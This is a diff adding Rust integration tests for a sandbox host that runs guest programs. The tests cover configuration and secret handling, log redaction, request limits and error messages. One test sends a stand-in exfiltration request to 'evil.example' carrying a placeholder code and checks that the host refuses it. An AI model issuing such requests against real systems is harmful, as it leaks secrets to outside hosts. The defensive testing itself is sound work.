@@ -1,0 +1,205 @@
+//! What a guest can perceive besides its request, and what it is kept from: `guest/probe` tells.
+
+use std::path::PathBuf;
+
+use crate::support::guest;
+use crate::support::host::{Finished, Host};
+
+fn probe() -> Host {
+    Host::run().arg(guest::built("probe"))
+}
+
+/// The lines of the probe's page at `query`.
+#[track_caller]
+fn seen(host: Host, query: &str) -> Vec<String> {
+    let page = host.start().navigate(&format!("/callback?{query}"));
+    assert_eq!(page.status(), 200, "{}", page.text());
+    page.text().lines().map(str::to_owned).collect()
+}
+
+#[track_caller]
+fn configured(host: Host) -> Vec<String> {
+    let mut lines = seen(host, "");
+    lines.retain(|line| line.starts_with("config "));
+    lines
+}
+
+#[track_caller]
+fn refused(host: Host) -> Finished {
+    host.finish().code(2).stdout("")
+}
+
+fn toml(text: &str) -> PathBuf {
+    guest::write(&format!("config-{}.toml", text.len()), text.as_bytes())
+}
+
+#[test]
+fn nothing_is_configured_unless_something_is_granted() {
+    assert_eq!(configured(probe()), Vec::<String>::new());
+}
+
+#[test]
+fn values_come_from_a_file_and_are_replaced_by_flags() {
+    let file = toml(
+        "title = \"Hi\"\nretries = 3\nbeta = true\n[provider]\nurl = \"https://a\"\nid = \"x\"\n",
+    );
+    let host = probe().arg("--config-file").arg(file);
+    assert_eq!(
+        configured(host.args(["--config", "provider.id=y=z", "--config", "empty="])),
+        [
+            "config beta: true",
+            "config empty: ",
+            "config provider.id: y=z",
+            "config provider.url: https://a",
+            "config retries: 3",
+            "config title: Hi",
+        ]
+    );
+}
+
+#[test]
+fn secrets_come_from_the_environment_and_from_files() {
+    let file = guest::write("secret.txt", b"two\nlines\r\n");
+    let host = probe()
+        .env("PROBE_SECRET", "hunter2")
+        .args(["--secret", "a=env:PROBE_SECRET", "--secret"])
+        .arg(format!("b=file:{}", file.display()));
+    assert_eq!(configured(host), ["config a: hunter2", "config b: two", "lines"][..2]);
+}
+
+#[test]
+fn a_secret_that_a_guest_logs_is_not_told() {
+    let file = guest::write("secret-lines.txt", b"first line\nsecond line\n");
+    let host = probe()
+        .env("PROBE_SECRET", "hunter2")
+        .args(["-v", "--secret", "a=env:PROBE_SECRET", "--secret"])
+        .arg(format!("b=file:{}", file.display()))
+        .start();
+    host.navigate("/callback?leak=a&leak=b&log=%5Bhunter2%5D+hunter&log=end");
+    host.wait_for_line("[guest] end");
+    let stderr = host.stderr();
+    for secret in ["hunter2", "first line", "second line"] {
+        assert!(!stderr.contains(secret), "{stderr}");
+    }
+    assert!(stderr.contains("[guest] [[redacted]] hunter\n"), "{stderr}");
+}
+
+/// The line is broken for the terminal after 4 KiB, in the middle of the secret.
+#[test]
+fn a_secret_in_a_long_line_is_not_told_either() {
+    let host = probe().env("PROBE_SECRET", "hunter2").args(["--secret", "a=env:PROBE_SECRET"]);
+    let host = host.start();
+    host.navigate(&format!("/callback?log={}hunter2&log=end", "x".repeat(4092)));
+    host.wait_for_line("[guest] end");
+    let stderr = host.stderr();
+    assert!(!stderr.contains("hunt") && !stderr.contains("ter2"));
+    assert!(stderr.contains("x[red\n[guest] acted]\n"));
+}
+
+#[test]
+fn a_secret_in_clear_is_refused_and_not_repeated() {
+    refused(probe().args(["--secret", "client_secret=hunter2"])).stderr(
+        "error: a secret is `NAME=env:VARIABLE` or `NAME=file:PATH`, but that of `client_secret` is neither\n\
+         hint: keep a secret in the environment or in a file: a command line is seen by others\n",
+    );
+    refused(probe().args(["--secret", "hunter2"])).stderr(
+        "error: a secret is `NAME=env:VARIABLE` or `NAME=file:PATH`\n\
+         hint: keep a secret in the environment or in a file: a command line is seen by others\n",
+    );
+}
+
+#[test]
+fn what_cannot_be_had_is_said_before_anybody_listens() {
+    let missing = refused(probe().args(["--secret", "a=env:PROBE_NOT_SET"]));
+    missing.stderr(
+        "error: the secret `a` is to come from the environment, where `PROBE_NOT_SET` is not set\n",
+    );
+    refused(probe().args(["--secret", "a=file:/nowhere/a"])).stderr(
+        "error: cannot read `/nowhere/a`\nCaused by:\n    No such file or directory (os error 2)\n",
+    );
+    refused(probe().env("PROBE_SECRET", "").args(["--secret", "a=env:PROBE_SECRET"]))
+        .stderr("error: the secret `a` is empty\n");
+    refused(probe().args(["--config", "novalue"]))
+        .stderr("error: a variable is `NAME=VALUE`, with a name before the `=`\n");
+    refused(probe().args(["--config", "=x"]))
+        .stderr("error: a variable is `NAME=VALUE`, with a name before the `=`\n");
+    refused(probe().args(["--config", "a=1", "--config", "a=2"]))
+        .stderr("error: the variable `a` is given twice\n");
+    refused(probe().env("S", "s").args(["--config", "a=1", "--secret", "a=env:S"]))
+        .stderr("error: the variable `a` is given twice\n");
+}
+
+#[test]
+fn a_configuration_that_does_not_parse_says_where() {
+    for (text, message) in [
+        ("a = 1\nb = = 2\n", "is not valid TOML, at line 2, column 5: "),
+        (
+            "[t]\nlist = [\"a\"]\n",
+            "`t.list` in `FILE` is a list; a variable is text, a number or a boolean",
+        ),
+    ] {
+        let file = toml(text);
+        let finished = refused(probe().arg("--config-file").arg(&file));
+        let stderr = finished.stderr.replace(&file.display().to_string(), "FILE");
+        assert!(stderr.contains(message), "{stderr}");
+    }
+    let binary = guest::write("binary.toml", b"\xff\xfe\x00");
+    let stderr = refused(probe().arg("--config-file").arg(binary)).stderr;
+    assert!(stderr.contains("did not contain valid UTF-8"), "{stderr}");
+    let large = guest::write("large.toml", &vec![b'\n'; (1 << 20) + 1]);
+    let stderr = refused(probe().arg("--config-file").arg(large)).stderr;
+    assert!(stderr.contains("it is larger than 1 MiB"), "{stderr}");
+}
+
+#[test]
+fn a_request_to_another_host_is_refused_with_an_ordinary_error() {
+    let events = guest::write("outgoing.jsonl", b"");
+    let host = probe().arg("--events").arg(&events).start();
+    let page = host.navigate("/callback?code=hunter2&ask=https://evil.example/steal?code=hunter2");
+    assert_eq!(page.text().lines().next(), Some("ask: ErrorCode::HttpRequestDenied"));
+    assert_eq!(page.status(), 200);
+    host.wait_for_line(
+        "warning: the guest wanted to reach `https://evil.example`, which was refused: no network is granted to guests",
+    );
+    assert!(!host.stderr().contains("hunter2"), "{}", host.stderr());
+    let events = std::fs::read_to_string(events).unwrap();
+    assert!(events.contains("\"event\":\"outgoing-refused\""), "{events}");
+    assert!(!events.contains("evil"), "{events}");
+}
+
+#[test]
+fn a_guest_that_asks_too_often_is_ended() {
+    let host = probe().args(["--max-outgoing-requests", "3"]).start();
+    let query = "ask=https://a.example&".repeat(1000);
+    assert_eq!(host.navigate(&format!("/callback?{query}")).status(), 500);
+    host.wait_for_line("the guest reached its limit of 3 outgoing requests; raise it with `--max-outgoing-requests`");
+    let stderr = host.stderr();
+    assert_eq!(stderr.matches("the guest wanted to reach").count(), 3, "{stderr}");
+}
+
+#[test]
+fn the_clock_goes_and_no_two_calls_see_the_same_random_bytes() {
+    let [first, second] = [0, 1].map(|_| seen(probe(), "sleep=20"));
+    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
+    let time = first[0].strip_prefix("time: ").unwrap().split('.').next().unwrap();
+    assert!(now.abs_diff(time.parse::<u64>().unwrap()) < 3600, "{time}");
+    let took: u64 = first[1]["took: ".len()..first[1].len() - " ms".len()].parse().unwrap();
+    assert!((20..30_000).contains(&took), "{took}");
+    for (line, other) in first[2..5].iter().zip(&second[2..5]) {
+        assert_ne!(line, other);
+    }
+}
+
+#[test]
+fn a_guest_that_cannot_exchange_its_code_says_so() {
+    let host = Host::run()
+        .arg(guest::built("exchange"))
+        .args(["--config", "client_id=id", "--config", "token_endpoint=https://idp.example/token"])
+        .start();
+    let page = host.navigate("/callback?code=hunter2");
+    assert!(page.text().contains("idp.example cannot be reached"), "{}", page.text());
+    host.finish().code(1).stdout(
+        "{\"error\":\"token_request_failed\",\"error_description\":\"idp.example cannot be reached: \
+         ErrorCode::HttpRequestDenied.\"}\n",
+    );
+}
